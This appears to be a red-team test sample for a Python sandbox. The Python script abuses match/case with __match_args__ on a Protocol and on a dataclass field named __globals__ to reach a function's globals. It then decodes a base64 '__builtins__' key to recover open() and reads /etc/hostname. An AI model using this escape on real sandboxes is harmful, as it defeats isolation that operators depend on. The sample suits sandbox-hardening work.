# family: red team, round 42 (runtime_checkable Protocol match gives type; dataclass field named like a dunder feeds __match_args__)
from typing import Protocol, runtime_checkable
from abc import ABC
from dataclasses import dataclass
import base64


@runtime_checkable
class Probe(Protocol):
    __match_args__ = ("kind",)

    def kind(self):
        ...


class Shape:
    __match_args__ = ("kind",)

    def kind(self):
        return type(self)


@dataclass
class Reader(ABC):
    __globals__: int = 0


def decode(text):
    return base64.b64decode(text).decode()


def main():
    subject = Shape
    match subject:
        case Probe(getter):
            meta = getter(int)
    print(meta)
    function_class = meta(decode)
    Reader.register(function_class)
    match decode:
        case Reader(scope):
            pass
    print(sorted(scope)[:6])
    match scope[decode("X19idWlsdGluc19f")]:
        case object(open=opener):
            print(opener("/etc/hostname").read())


main()
